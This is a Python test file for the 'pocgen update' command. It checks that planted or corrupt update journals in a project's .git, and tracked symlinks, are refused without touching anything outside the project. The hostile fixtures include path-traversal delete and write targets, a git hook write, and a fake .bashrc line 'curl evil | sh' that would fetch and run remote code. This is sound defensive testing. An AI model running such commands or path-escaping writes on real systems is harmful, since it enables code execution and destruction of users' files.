"""`pocgen update` on a project the user did not write (issue 18): the update journal in `.git`
is data to validate, never orders, and a tracked symlink is never merged through.

A project copied as an archive brings its `.git`, and with it whatever an attacker put there: a
planted journal that deletes or writes outside the project, or a corrupt one. Each is refused in
one line and left in place for the user to look at; nothing around the project changes (the
scratch root of `containment_harness` is hashed before and after).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from conftest import commit_all, git_init, run_pocgen
from containment_harness import Scratch, assert_one_line_refusal, make_scratch

FORMAT = "pocgen-update-journal/2"


@pytest.fixture
def scratch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Scratch:
    return make_scratch(tmp_path, monkeypatch)


@pytest.fixture
def project(scratch: Scratch, versioned_template) -> Path:
    """A Copier project at v1 of a git template whose v2 adds NEWS.md, committed."""
    repo = versioned_template(
        "copier-mini", lambda repo: (repo / "template" / "NEWS.md").write_text("v2\n")
    )
    made = run_pocgen("new", scratch.dest, "-t", f"file://{repo}", "-r", "v1", "--defaults")
    assert made.exit_code == 0, made.stderr
    git_init(scratch.dest)
    commit_all(scratch.dest, "made at v1")
    return scratch.dest


def plant(project: Path, plan: object, files: dict[str, str] | None = None) -> Path:
    """A journal in the project's .git, as an attacker would ship it: `plan` as plan.json,
    `files` under files/."""
    journal = project / ".git" / "pocgen-update"
    (journal / "files").mkdir(parents=True)
    text = plan if isinstance(plan, str) else json.dumps(plan)
    (journal / "plan.json").write_text(text)
    for name, content in (files or {}).items():
        (journal / "files" / name).parent.mkdir(parents=True, exist_ok=True)
        (journal / "files" / name).write_text(content)
    return journal


def a_plan(writes: list, deletes: list, unmerged: dict | None = None) -> dict:
    return {
        "format": FORMAT,
        "prefix": "",
        "writes": writes,
        "deletes": deletes,
        "unmerged": unmerged or {},
    }


def planted(case: str, s: Scratch) -> tuple[object, dict[str, str]]:
    """The plan and staged files of each hostile journal (aimed at the scratch sentinels)."""
    up = "../" * 3  # from the project (root/work/out/p) to the scratch root
    if case == "deletes-outside":
        return a_plan([], [up + "victim/keep.txt"]), {}
    if case == "deletes-absolute":
        return a_plan([], [str(s.root / "victim" / "keep.txt")]), {}
    if case == "writes-outside":
        # files/<name> resolves to <project>/home/.bashrc, a file the archive brought along
        (s.dest / "home").mkdir()
        (s.dest / "home" / ".bashrc").write_text("curl evil | sh\n")
        return a_plan([up + "home/.bashrc"], []), {}
    if case == "writes-through-a-symlinked-folder":
        (s.dest / "docs").symlink_to(s.root / "victim")
        return a_plan(["docs/keep.txt"], []), {"docs/keep.txt": "overwritten\n"}
    if case == "writes-a-git-hook":
        return a_plan([".git/hooks/pre-commit"], []), {".git/hooks/pre-commit": "#!/bin/sh\n"}
    if case == "not-written-here":  # well-formed and inside the project, but never written
        return a_plan(["README.md"], []), {"README.md": "replaced\n"}
    corrupt = {
        "not-json": "{",
        "a-list": "[]",
        "missing-keys": json.dumps({"format": FORMAT, "prefix": ""}),
        "old-format": json.dumps({"prefix": "", "writes": [], "deletes": []}),
        "writes-not-a-list": json.dumps(a_plan("README.md", [])),  # type: ignore[arg-type]
        "a-name-not-text": json.dumps(a_plan([7], [])),
        # an index entry is "mode blob stage" and nothing else: no extra line, no other path
        "an-unmerged-entry-with-a-path": json.dumps(
            a_plan(["README.md"], [], {"README.md": [f"100644 {'0' * 40} 1\t.git/config"]})
        ),
        "unmerged-not-written": json.dumps(a_plan([], [], {"README.md": [f"100644 {'0' * 40} 2"]})),
    }
    return corrupt[case], {}


HOSTILE = [
    ("deletes-outside", "not a path inside the folder"),
    ("deletes-absolute", "not a path inside the folder"),
    ("writes-outside", "not a path inside the folder"),
    ("writes-through-a-symlinked-folder", "docs on the way is a symlink"),
    ("writes-a-git-hook", "inside .git"),
    ("not-written-here", "has no record of writing it"),
    ("not-json", "is not JSON"),
    ("a-list", "is not a pocgen-update-journal/2 plan"),
    ("missing-keys", "is not a pocgen-update-journal/2 plan"),
    ("old-format", "is not a pocgen-update-journal/2 plan"),
    ("writes-not-a-list", "values of the wrong type"),
    ("a-name-not-text", "not a relative file name"),
    ("an-unmerged-entry-with-a-path", "unmerged entries that are not index entries"),
    ("unmerged-not-written", "unmerged entries that are not index entries"),
]


@pytest.mark.parametrize(("case", "message"), HOSTILE, ids=[case for case, _ in HOSTILE])
def test_a_planted_or_corrupt_journal_is_refused_and_left_in_place(
    scratch: Scratch, project: Path, case: str, message: str
):
    plan, files = planted(case, scratch)
    journal = plant(project, plan, files)
    left = {
        p.relative_to(journal).as_posix(): p.read_bytes() for p in journal.rglob("*") if p.is_file()
    }
    with scratch.unchanged():
        result = run_pocgen("update", project, env=scratch.env)
    assert_one_line_refusal(result, "was left in place", message, f"rm -rf {journal}")
    assert {
        p.relative_to(journal).as_posix(): p.read_bytes() for p in journal.rglob("*") if p.is_file()
    } == left
    assert not (project / "NEWS.md").exists()  # the update did not run either


def test_a_journal_that_is_a_symlink_is_refused(scratch: Scratch, project: Path):
    elsewhere = scratch.root / "victim"
    (project / ".git" / "pocgen-update").symlink_to(elsewhere)
    with scratch.unchanged():
        result = run_pocgen("update", project, env=scratch.env)
    assert_one_line_refusal(result, "it is not a folder holding a plan")


def test_an_update_this_machine_interrupted_is_still_finished(project: Path, monkeypatch):
    """The record ties a journal to the update that wrote it: a real interrupted update (its
    plan remembered) is finished by the next run, as before."""
    from pocgen.errors import PocgenError
    from pocgen.templating import journal
    from pocgen.templating.update import update_project

    real_finish = journal._finish

    def killed_after_the_commit_point(*args):
        raise OSError(5, "Input/output error", "NEWS.md")

    monkeypatch.setattr(journal, "_finish", killed_after_the_commit_point)
    with pytest.raises(PocgenError, match="stopped while moving files into place"):
        update_project(project)
    monkeypatch.setattr(journal, "_finish", real_finish)
    result = run_pocgen("update", project)
    assert result.exit_code == 0 and "Finished an update" in result.stdout, result.stderr
    assert (project / "NEWS.md").read_text() == "v2\n"


# --- a tracked symlink is never merged through --------------------------------------------------


def _linked_project(s: Scratch, versioned_template, engine: str) -> Path:
    """A project whose README.md is a tracked symlink to a file outside it (absolute, so the
    scratch copy points at the real file), from a template whose v2 changes README.md."""
    inside = {
        "copier": "template/README.md.jinja",
        "cookiecutter": "{{cookiecutter.project_slug}}/README.md",
    }[engine]

    def change(repo: Path) -> None:
        readme = repo / inside
        readme.write_text(readme.read_text() + "\nA line new in v2.\n")
        (readme.parent / "NEWS.md").write_text("v2\n")

    repo = versioned_template(f"{engine}-mini", change)
    trust = ["--trust"] if engine == "cookiecutter" else []
    made = run_pocgen("new", s.dest, "-t", f"file://{repo}", "-r", "v1", "--defaults", *trust)
    assert made.exit_code == 0, made.stderr
    (s.dest / "README.md").unlink()
    (s.dest / "README.md").symlink_to(s.root / "secret.txt")
    git_init(s.dest)
    commit_all(s.dest, "made at v1, README kept elsewhere")
    return s.dest


@pytest.mark.parametrize("engine", ["copier", "cookiecutter"])
def test_a_tracked_symlink_is_never_merged_through(scratch: Scratch, versioned_template, engine):
    project = _linked_project(scratch, versioned_template, engine)
    trust = ["--trust"] if engine == "cookiecutter" else []
    with scratch.unchanged():
        result = run_pocgen("update", project, *trust, env=scratch.env)
    assert "Traceback" not in result.stderr, result.stderr
    assert (project / "README.md").is_symlink()
    assert (scratch.root / "secret.txt").read_text() == "the neighbour's secret\n"
    if result.exit_code == 0:
        assert (project / "NEWS.md").read_text() == "v2\n"  # the rest of the update arrived
    else:
        assert_one_line_refusal(result, "README.md")


def test_a_record_that_is_a_symlink_is_never_rewritten(scratch: Scratch, versioned_template):
    """`.pocgen.yml` linked to a file outside the project (holding the same record): the update
    would rewrite that file; it is refused instead."""
    repo = versioned_template(
        "cookiecutter-mini",
        lambda repo: (repo / "{{cookiecutter.project_slug}}" / "NEWS.md").write_text("v2\n"),
    )
    made = run_pocgen(
        "new", scratch.dest, "-t", f"file://{repo}", "-r", "v1", "--defaults", "--trust"
    )
    assert made.exit_code == 0, made.stderr
    outside = scratch.root / "victim" / "record.yml"
    outside.write_text((scratch.dest / ".pocgen.yml").read_text())
    (scratch.dest / ".pocgen.yml").unlink()
    (scratch.dest / ".pocgen.yml").symlink_to(outside)
    git_init(scratch.dest)
    commit_all(scratch.dest, "made at v1, the record kept elsewhere")
    with scratch.unchanged():
        result = run_pocgen("update", scratch.dest, "--trust", env=scratch.env)
    assert_one_line_refusal(result, ".pocgen.yml is a symlink")
